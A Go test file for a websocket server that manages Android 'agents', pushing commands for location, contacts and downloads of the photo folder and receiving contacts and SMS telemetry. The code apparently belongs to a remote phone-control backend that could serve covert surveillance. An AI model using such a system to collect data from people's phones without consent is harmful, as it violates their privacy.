package ws

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/gin-gonic/gin"
	"github.com/gorilla/websocket"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/musterhq/muster/internal/agents"
	"github.com/musterhq/muster/internal/blob"
	"github.com/musterhq/muster/internal/command"
	"github.com/musterhq/muster/internal/hub"
	"github.com/musterhq/muster/internal/store/memory"
)

const testAgentID = "device-001"

func newTestServer(t *testing.T) (*hub.Hub, string) {
	t.Helper()
	gin.SetMode(gin.TestMode)

	blobs, err := blob.NewStore(t.TempDir())
	require.NoError(t, err)

	h := hub.New(hub.Config{
		Store: memory.New(),
		Blobs: blobs,
	})
	t.Cleanup(func() { h.Shutdown(context.Background()) })

	router := gin.New()
	router.GET("/ws", NewHandler(h).Serve)
	srv := httptest.NewServer(router)
	t.Cleanup(srv.Close)

	return h, "ws" + strings.TrimPrefix(srv.URL, "http") + "/ws"
}

func dial(t *testing.T, url string) *websocket.Conn {
	t.Helper()
	conn, _, err := websocket.DefaultDialer.Dial(url, nil)
	require.NoError(t, err)
	t.Cleanup(func() { conn.Close() })
	return conn
}

func readEnvelope(t *testing.T, conn *websocket.Conn) string {
	t.Helper()
	require.NoError(t, conn.SetReadDeadline(time.Now().Add(2*time.Second)))
	_, msg, err := conn.ReadMessage()
	require.NoError(t, err)
	return string(msg)
}

func waitOnline(t *testing.T, h *hub.Hub, agentID string) {
	t.Helper()
	require.Eventually(t, func() bool {
		agent, err := h.GetAgent(context.Background(), agentID)
		return err == nil && agent.Online
	}, 2*time.Second, 10*time.Millisecond)
}

func waitOffline(t *testing.T, h *hub.Hub, agentID string) {
	t.Helper()
	require.Eventually(t, func() bool {
		agent, err := h.GetAgent(context.Background(), agentID)
		return err == nil && !agent.Online
	}, 2*time.Second, 10*time.Millisecond)
}

func TestServeRejectsMissingAgentID(t *testing.T) {
	_, wsURL := newTestServer(t)

	conn, resp, err := websocket.DefaultDialer.Dial(wsURL, nil)
	require.Error(t, err)
	require.Nil(t, conn)
	require.NotNil(t, resp)
	defer resp.Body.Close()

	assert.Equal(t, http.StatusBadRequest, resp.StatusCode)
}

func TestConnectStoresHandshakeMetadata(t *testing.T) {
	h, wsURL := newTestServer(t)

	dial(t, wsURL+"?id="+testAgentID+"&model=Pixel+8&manufacturer=Google&release=14&app_version=1.4.2")
	waitOnline(t, h, testAgentID)

	agent, err := h.GetAgent(context.Background(), testAgentID)
	require.NoError(t, err)
	assert.Equal(t, "Pixel 8", agent.Metadata[agents.MetaModel])
	assert.Equal(t, "Google", agent.Metadata[agents.MetaManufacturer])
	assert.Equal(t, "14", agent.Metadata[agents.MetaRelease])
	assert.Equal(t, "1.4.2", agent.Metadata[agents.MetaAppVersion])
	assert.NotEmpty(t, agent.Metadata[agents.MetaRemoteAddr])
}

func TestTelemetryReachesPages(t *testing.T) {
	h, wsURL := newTestServer(t)

	conn := dial(t, wsURL+"?id="+testAgentID)
	payload := `{"event":"contacts","data":[{"phone_no":"+15550100","name":"Ada"}]}`
	require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte(payload)))

	require.Eventually(t, func() bool {
		page, err := h.AgentPage(context.Background(), testAgentID, hub.PageContacts, hub.PageOptions{})
		if err != nil {
			return false
		}
		items := page.([]hub.ContactItem)
		return len(items) == 1 && items[0].Name == "Ada"
	}, 2*time.Second, 10*time.Millisecond)
}

func TestCommandDeliveredToClient(t *testing.T) {
	h, wsURL := newTestServer(t)

	conn := dial(t, wsURL+"?id="+testAgentID)
	waitOnline(t, h, testAgentID)

	outcome, err := h.SendCommand(context.Background(), testAgentID, "location", nil)
	require.NoError(t, err)
	assert.Equal(t, command.OutcomeSent, outcome)

	assert.JSONEq(t, `{"event":"command","data":{"type":"location"}}`, readEnvelope(t, conn))
}

func TestCommandPayloadFieldsSurvive(t *testing.T) {
	h, wsURL := newTestServer(t)

	conn := dial(t, wsURL+"?id="+testAgentID)
	waitOnline(t, h, testAgentID)

	_, err := h.SendCommand(context.Background(), testAgentID, "files", []byte(`{"action":"dl","path":"/sdcard/DCIM"}`))
	require.NoError(t, err)

	assert.JSONEq(t,
		`{"event":"command","data":{"type":"files","action":"dl","path":"/sdcard/DCIM"}}`,
		readEnvelope(t, conn))
}

func TestQueuedCommandReplayedOnReconnect(t *testing.T) {
	h, wsURL := newTestServer(t)

	first := dial(t, wsURL+"?id="+testAgentID)
	waitOnline(t, h, testAgentID)
	first.Close()
	waitOffline(t, h, testAgentID)

	outcome, err := h.SendCommand(context.Background(), testAgentID, "contacts", nil)
	require.NoError(t, err)
	require.Equal(t, command.OutcomeQueued, outcome)

	second := dial(t, wsURL+"?id="+testAgentID)
	assert.JSONEq(t, `{"event":"command","data":{"type":"contacts"}}`, readEnvelope(t, second))
}

func TestPingAnsweredWithPong(t *testing.T) {
	_, wsURL := newTestServer(t)

	conn := dial(t, wsURL+"?id="+testAgentID)
	require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte(`{"event":"ping"}`)))

	assert.JSONEq(t, `{"event":"pong"}`, readEnvelope(t, conn))
}

func TestSecondConnectionSupersedesFirst(t *testing.T) {
	h, wsURL := newTestServer(t)

	first := dial(t, wsURL+"?id="+testAgentID)
	waitOnline(t, h, testAgentID)

	second := dial(t, wsURL+"?id="+testAgentID)

	// The registry closes the superseded transport; the first client's read
	// fails once that lands.
	require.NoError(t, first.SetReadDeadline(time.Now().Add(2*time.Second)))
	_, _, err := first.ReadMessage()
	require.Error(t, err)

	// The fresh connection is live: ping still round-trips and the agent
	// stays online.
	require.NoError(t, second.WriteMessage(websocket.TextMessage, []byte(`{"event":"ping"}`)))
	assert.JSONEq(t, `{"event":"pong"}`, readEnvelope(t, second))

	agent, err := h.GetAgent(context.Background(), testAgentID)
	require.NoError(t, err)
	assert.True(t, agent.Online)
}

func TestClientDisconnectMarksAgentOffline(t *testing.T) {
	h, wsURL := newTestServer(t)

	conn := dial(t, wsURL+"?id="+testAgentID)
	waitOnline(t, h, testAgentID)

	conn.Close()
	waitOffline(t, h, testAgentID)
}

func TestBadFramesKeepConnectionAlive(t *testing.T) {
	_, wsURL := newTestServer(t)

	conn := dial(t, wsURL+"?id="+testAgentID)

	// Not JSON at all, then a kind outside the catalog, then telemetry whose
	// payload does not match its kind. None of these may kill the session.
	require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte("not json")))
	require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte(`{"event":"selfie","data":{}}`)))
	require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte(`{"event":"sms","data":42}`)))

	require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte(`{"event":"ping"}`)))
	assert.JSONEq(t, `{"event":"pong"}`, readEnvelope(t, conn))
}
